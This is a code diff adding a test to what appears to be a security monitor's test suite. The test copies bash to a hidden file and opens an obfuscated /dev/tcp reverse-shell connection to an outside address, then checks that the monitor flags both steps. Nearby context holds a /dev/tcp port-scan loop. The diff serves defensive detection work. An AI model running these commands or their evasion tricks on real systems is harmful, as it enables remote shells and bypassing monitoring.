@@ -251,6 +251,22 @@ test('a bash /dev/tcp reverse shell and a Python socket client to an outside hos
   assert.equal(await fx.far.accepted('203.0.113.10', 22), 0);
 });
 
+test('a renamed copy of bash is known by its bytes: its /dev/tcp connect is a reverse shell, and the copy itself is reported', async () => {
+  // (a review, session 24: `cp /bin/bash ./.kw` and a /dev/tcp path built from a variable raised only a low policy alert)
+  const { r, alerts } = await oneCall(`cp /bin/bash ./.kw && (setsid ./.kw -c 'sleep 0.3; d=/dev/tc; exec 3<>\${d}p/203.0.113.5/9001; echo x >&3' >/dev/null 2>&1 &) ; sleep 1.5; echo done`);
+  assert.equal(r.stdout.trim(), 'done', r.stderr);
+  const by = (rule: string) => alerts.find((a) => a.payload.rule === rule);
+  const copy = by('system_binary_copy_exec');
+  assert.ok(copy, JSON.stringify(alerts.map((a) => [a.payload.rule, a.payload.message])));
+  assert.equal(copy.tool_call, 'call-1');
+  assert.match(String(copy.payload.message), /Renamed copy of bash run as .*\.kw/);
+  const shell = alerts.find((a) => a.payload.category === 'reverse_shell');
+  assert.ok(shell, JSON.stringify(alerts.map((a) => [a.payload.rule, a.payload.category, a.payload.message])));
+  assert.equal(shell.tool_call, 'call-1');
+  // the real bash is bash, not a copy of itself
+  assert.ok(!alerts.some((a) => a.payload.rule === 'system_binary_copy_exec' && /\/bin\/bash/.test(String(a.payload.message)) && !/\.kw/.test(String(a.payload.message))));
+});
+
 test('a shell scanning with /dev/tcp is one internal scan alert; its connect to an outside host is still a reverse shell', async () => {
   const scan = 'for h in 10.0.0.5 10.0.0.6 10.0.0.7; do for p in 22 80; do (echo > /dev/tcp/$h/$p) 2>/dev/null; done; done';
   const { alerts } = await oneCall(`${scan}; echo scanned`);
